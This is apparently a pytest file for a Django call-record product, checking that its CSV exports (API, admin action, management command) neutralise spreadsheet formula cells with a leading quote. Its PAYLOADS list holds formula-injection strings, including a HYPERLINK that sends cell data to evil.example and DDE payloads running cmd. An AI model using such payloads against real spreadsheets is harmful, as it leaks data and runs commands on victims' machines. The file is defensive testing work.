"""Every CSV the product writes neutralises cells a spreadsheet would run (issue 16, item 4).

A gateway controls the text of a call record; each CSV (API export on both paths, API list pages,
the admin's action, ``cdr_export``, report tables) writes such a cell with a leading single quote,
the same way (``cdr.reports.cells``). NDJSON and JSON carry the values as they are.
"""

import csv
import io
import json
from datetime import timedelta

import pytest
from django.core.management import call_command
from django.db import connection
from django.test import Client
from django.urls import reverse
from rest_framework.test import APIClient

from cdr.api.calls_export import calls_export_chunks
from cdr.models import Call, Tenant
from cdr.services.api_tokens import api_token_create
from tests.support.factories import T0

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=",
]
# Every text field of the record a gateway sets (direction, status, initiator are checked enums).
GATEWAY_FIELDS = ("call_id", "correlation_id", "scenario", "remote_addr", "local_ip", "codec", "hangup_reason")
LIMITS = {"scenario": 64, "local_ip": 64, "codec": 32}


@pytest.fixture
def formula_calls(db):
    Tenant.objects.create(id=7)
    rows = []
    for i, payload in enumerate(PAYLOADS):
        values = {name: f"{payload}{i}"[: LIMITS.get(name, 255)] for name in GATEWAY_FIELDS}
        rows.append(
            Call(
                tenant_id=7,
                direction="inbound",
                status="failed",
                started_at=T0 + timedelta(seconds=i),
                pdd_ms=-5,  # a negative number stays a number
                sip_code=486,
                **values,
            )
        )
    Call.objects.bulk_create(rows)
    return {c.call_id: c for c in Call.objects.all()}


def assert_neutralised(text: str, calls: dict[str, Call]) -> None:
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == len(PAYLOADS)
    for row in rows:
        assert row["call_id"].startswith("'")
        call = calls[row["call_id"][1:]]
        for name in GATEWAY_FIELDS:
            assert row[name] == "'" + getattr(call, name), (name, row[name])
        if "pdd_ms" in row:
            assert row["pdd_ms"] == "-5"
        assert row["sip_code"] == "486" and row["status"] == "failed"


@pytest.mark.parametrize("fast", [True, False])
def test_export_both_paths(formula_calls, fast):
    if fast and connection.vendor != "postgresql":
        pytest.skip("the COPY path is PostgreSQL's")
    qs = Call.objects.all()
    assert_neutralised(b"".join(calls_export_chunks(qs, "csv", fast=fast)).decode(), formula_calls)
    for line in b"".join(calls_export_chunks(qs, "ndjson", fast=fast)).splitlines():
        record = json.loads(line)
        call = formula_calls[record["call_id"]]
        assert all(record[name] == getattr(call, name) for name in GATEWAY_FIELDS)


@pytest.fixture
def api(formula_calls, django_user_model):
    root = django_user_model.objects.create_superuser("root", password="x" * 12)
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Bearer {api_token_create(user=root, name='finance').key}")
    return client


def test_api_export_and_list_pages(api, formula_calls):
    response = api.get("/api/v1/calls/export", {"format": "csv"})
    assert response.status_code == 200
    assert_neutralised(b"".join(response.streaming_content).decode(), formula_calls)
    for query in ({"format": "csv"}, {"format": "csv", "order": "asc"}):
        response = api.get("/api/v1/calls/", query)
        assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
        assert_neutralised(response.content.decode(), formula_calls)
    page = api.get("/api/v1/calls/", HTTP_ACCEPT="application/json").json()["results"]
    assert {r["call_id"] for r in page} == set(formula_calls)  # JSON as stored


def test_admin_csv_action(formula_calls, django_user_model):
    client = Client()
    client.force_login(django_user_model.objects.create_superuser("root", password="x" * 12))
    url = reverse("admin:cdr_call_changelist")
    pks = [c.pk for c in formula_calls.values()]
    response = client.post(url, {"action": "export_csv", "_selected_action": pks})
    assert response.status_code == 200
    assert_neutralised(b"".join(response.streaming_content).decode(), formula_calls)


def test_cdr_export_command(formula_calls):
    out = io.StringIO()
    call_command("cdr_export", "--format", "csv", stdout=out)
    assert_neutralised(out.getvalue(), formula_calls)
    out = io.StringIO()
    call_command("cdr_export", "--format", "ndjson", stdout=out)
    assert {json.loads(line)["call_id"] for line in out.getvalue().splitlines()} == set(formula_calls)
